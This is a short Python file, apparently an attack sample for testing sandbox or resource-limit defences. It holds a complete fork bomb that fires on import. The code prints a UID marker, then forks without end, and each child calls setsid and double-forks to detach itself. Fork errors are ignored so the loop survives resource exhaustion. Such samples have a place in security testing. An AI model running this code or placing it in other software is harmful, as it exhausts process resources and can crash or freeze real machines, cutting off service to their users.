"""Attack: a fork bomb at import, children in their own sessions, daemonised (double fork)."""
import os

print(f"ATTACK-UID={os.getuid()}", flush=True)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
    except OSError:
        pass
